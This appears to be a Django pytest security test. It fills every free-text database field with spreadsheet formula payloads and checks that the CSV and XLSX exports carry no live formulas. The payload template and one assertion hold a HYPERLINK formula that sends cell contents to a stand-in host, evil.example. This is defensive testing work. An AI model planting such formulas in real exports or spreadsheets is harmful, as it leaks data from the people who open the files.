"""No export carries a live spreadsheet formula, whatever people typed into any text field.

Every CharField and TextField of every record (the sweeps' world: organisation A and one
record from every app's factories) is overwritten with formula-like text — each of ``=``,
``+``, ``-``, ``@``, tab, carriage return and their full-width forms — and every URL of the
resolver is opened by every persona; each response that is a CSV or XLSX file is opened as a
spreadsheet would open it. A CSV cell must not begin with a formula character; an XLSX cell must
never be a formula, and text that looks like one must carry Excel's quote prefix.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.apps import apps
from django.db import DataError, IntegrityError, models, transaction

from peerwork.lib.exports import FORMULA_STARTS, is_formula_like
from tests.trust.helpers import client_as
from tests.trust.urlmap import all_candidates, assignments, parameterless_routes, uuid_routes

STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
PAYLOAD = '{start}HYPERLINK("http://evil.example/?q="&A1,"x{pk}")'
PROJECT_APPS = {"accounts", "cases", "recruitment", "training", "supervision"}
PROJECT_APPS |= {"comparison", "qualitative"}
# Text that must stay what it is for the app to work (keys, addresses, codes the URLs use).
SKIPPED_FIELDS = {"email", "password", "public_id", "slug", "token", "key", "secret"}
EXPORT_TYPES = ("text/csv", "spreadsheetml")
# Comparison exports are one URL with a view and a format chosen in the query (they need
# published practice profiles, which the sweeps' world has none of: tests/comparison opens them
# on the seeded demo).
EXTRA_QUERIES = {
    "comparison:export": [
        f"?view={view}&format={fmt}"
        for view in ("context", "initiative", "case-table", "profiles", "dictionary")
        for fmt in ("csv", "xlsx")
    ],
    "qualitative:export-codings-csv": ["?"],
}


def plant_formulas() -> int:
    """Overwrite every free-text field of every project record; returns how many were set."""
    planted = 0
    index = 0
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS:
            continue
        fields = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not any(part in field.name for part in SKIPPED_FIELDS)
            and not field.primary_key
        ]
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            values = {}
            for field in fields:
                start = STARTS[index % len(STARTS)]
                index += 1
                text = PAYLOAD.format(start=start, pk=pk)
                if field.max_length:
                    text = text[: field.max_length - len(str(pk))] + str(pk)
                values[field.name] = text
            # Field by field, each in a savepoint: a constraint may require a field to stay
            # empty (e.g. "other grade" only with the "other" pay band); that one is skipped.
            for name, text in values.items():
                try:
                    with transaction.atomic():
                        model._default_manager.filter(pk=pk).update(**{name: text})
                    planted += 1
                except (IntegrityError, DataError):
                    continue
    return planted


def live_formulas_in_csv(content: bytes) -> list[str]:
    found = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        found += [cell for cell in row if is_formula_like(cell)]
    return found


def live_formulas_in_xlsx(content: bytes) -> list[str]:
    from openpyxl import load_workbook

    found = []
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"formula {cell.coordinate}: {cell.value!r}")
                elif (
                    isinstance(cell.value, str)
                    and is_formula_like(cell.value)
                    and not cell.quotePrefix
                ):
                    found.append(f"unquoted {cell.coordinate}: {cell.value!r}")
    return found


def _planted_cells(content: bytes, is_csv: bool) -> int:
    text = content.decode("utf-8-sig") if is_csv else _xlsx_text(content)
    return text.count("evil.example")


def _xlsx_text(content: bytes) -> str:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return " ".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


def test_the_check_catches_a_live_formula():
    assert live_formulas_in_csv(b'name\n=HYPERLINK("http://evil.example")\n')
    assert live_formulas_in_csv("name\n＠SUM(A1)\n".encode())
    assert not live_formulas_in_csv(b'name\n\'=HYPERLINK("x")\n-12.5\n')
    assert all(start[:1] in FORMULA_STARTS for start in STARTS)


@pytest.mark.django_db
def test_no_export_carries_a_live_formula(world, researcher, supervisor_a):
    personas = world["personas"]
    people = {
        name: personas[name]
        for name in ("manager_a", "peer_a", "administrator")
        if personas.get(name) is not None
    }
    people["researcher"] = researcher
    people["supervisor_a"] = supervisor_a
    clients = {name: client_as(user) for name, user in people.items()}
    candidates = all_candidates()
    assert plant_formulas() > 50

    urls = []
    for route in parameterless_routes():
        for query in EXTRA_QUERIES.get(route.name, [""]):
            urls.append((route.name, route.url() + query))
    initiatives = [c for c in candidates if c.model_label == "cases.initiative"]
    for route in uuid_routes():
        for kwargs in assignments(route, candidates, limit=10):
            urls.append((route.name, route.url(**kwargs)))
        if len(route.uuid_kwargs) == 1:  # a kwarg named public_id may take an initiative
            urls += [
                (route.name, route.url(**{route.uuid_kwargs[0]: c.public_id})) for c in initiatives
            ]

    exports, findings, planted = set(), [], 0
    for route_name, url in urls:
        for persona, client in clients.items():
            response = client.get(url)
            content_type = response.get("Content-Type", "")
            if response.status_code != 200 or not any(t in content_type for t in EXPORT_TYPES):
                continue
            exports.add(route_name)
            is_csv = "text/csv" in content_type
            check = live_formulas_in_csv if is_csv else live_formulas_in_xlsx
            findings += [f"{url} as {persona}: {cell}" for cell in check(response.content)]
            planted += _planted_cells(response.content, is_csv)
    print(f"exports checked: {sorted(exports)}; planted values seen: {planted}")
    assert findings == []
    assert {
        "supervision:export-csv",
        "training:compliance-csv",
        "qualitative:export-codebook-csv",
        "qualitative:export-codings-csv",
        "qualitative:export-codings-xlsx",
    } <= exports
    assert planted > 0  # the planted text did reach the files
